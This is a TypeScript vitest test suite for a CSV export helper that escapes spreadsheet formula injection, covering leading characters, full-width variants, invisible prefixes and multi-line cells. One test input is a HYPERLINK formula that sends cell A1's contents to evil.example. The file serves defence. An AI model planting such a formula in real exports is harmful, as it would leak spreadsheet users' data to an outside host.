import { fc, test as property } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { cellText } from '@/utils/export/cellText';
import { csvOf } from '@/utils/export/csv';

const HYPERLINK = 'HYPERLINK("http://evil.example/?"&A1,"看")';

describe('the text of a cell', () => {
  it.each([
    ['an equals sign', `=${HYPERLINK}`, `'=${HYPERLINK}`],
    ['a plus', '+86 138 0000 0000', "'+86 138 0000 0000"],
    ['a minus', '-2+3', "'-2+3"],
    ['an at sign', '@SUM(A1)', "'@SUM(A1)"],
    ['a tab', '\t=1', "'\t=1"],
    ['a carriage return', '\r=1', "'\r'=1"],
    ['a line feed', '\n=1', "'\n'=1"],
    ['a NUL', '\0=1', "'\0=1"],
    ['a full-width equals sign', '＝1+1', "'＝1+1"],
    ['a full-width plus', '＋1', "'＋1"],
    ['a full-width minus', '－1', "'－1"],
    ['a full-width at sign', '＠A1', "'＠A1"],
    ['spaces before it', '   =1', "'   =1"],
    ['a wide space before it', '\u3000=1', "'\u3000=1"],
    ['a space that does not break', '\u00a0=1', "'\u00a0=1"],
    ['a mark that takes no room', '\u200b=1', "'\u200b=1"],
    ['a byte order mark', '\ufeff=1', "'\ufeff=1"],
    ['its second line', '先看\n=1', "先看\n'=1"],
    ['a line after CR LF', '先看\r\n@A1', "先看\r\n'@A1"],
    ['a line after CR alone', '先看\r+1', "先看\r'+1"],
    ['a line that begins with spaces', '先看\n  =1', "先看\n'  =1"],
    ['an empty first line', '\n张', "'\n张"],
  ])('is guarded at %s', (_what, text, safe) => {
    expect(cellText(text)).toBe(safe);
  });

  it.each([
    '王丽华',
    '',
    '13800000000',
    '2026-11-22',
    'a=b',
    '张 - 李',
    '1-2',
    '<=5',
    '先看\n再说',
    "O'Brien",
  ])('stays as it is where it is none: %j', (text) => {
    expect(cellText(text)).toBe(text);
  });

  const LETTERS = fc.constantFrom(...' \u3000\u200b=+-@＝＋－＠\t\r\n\0a王"\',;');
  property.prop([fc.array(LETTERS, { maxLength: 12 })])(
    'never begins a cell or a line of one with a formula, whatever it is made of',
    (letters) => {
      const lines = cellText(letters.join('')).split(/\r\n|\r|\n/);
      for (const line of lines)
        expect(line.replace(/^[\s\u200b\ufeff]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠\0]/u);
      expect(cellText(letters.join(''))).not.toMatch(/^[\t\r\n\0]/);
    },
  );
});

/** Reads CSV as RFC 4180 has it. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push((quoted ?? '').replaceAll('""', '"') || (plain ?? ''));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

describe('CSV', () => {
  it('begins with a byte order mark, and ends each line as the standard says', () => {
    const csv = csvOf({ name: 'x', headings: ['客户', '知彼度'], rows: [['王丽华', 61]] });
    expect(csv).toBe('\ufeff"客户","知彼度"\r\n"王丽华",61\r\n');
  });

  property.prop([fc.array(fc.tuple(fc.string(), fc.integer()), { maxLength: 5 })])(
    'keeps every text in its own cell',
    (rows) => {
      const read = parse(csvOf({ name: 'x', headings: ['a', 'b'], rows }).slice(1));
      expect(read.slice(1)).toEqual(rows.map(([text, number]) => [cellText(text), String(number)]));
    },
  );

  it('guards headings too, and leaves numbers alone', () => {
    const csv = csvOf({ name: 'x', headings: ['=1'], rows: [[-5], [null]] });
    expect(csv).toBe('\ufeff"\'=1"\r\n-5\r\n\r\n');
  });
});
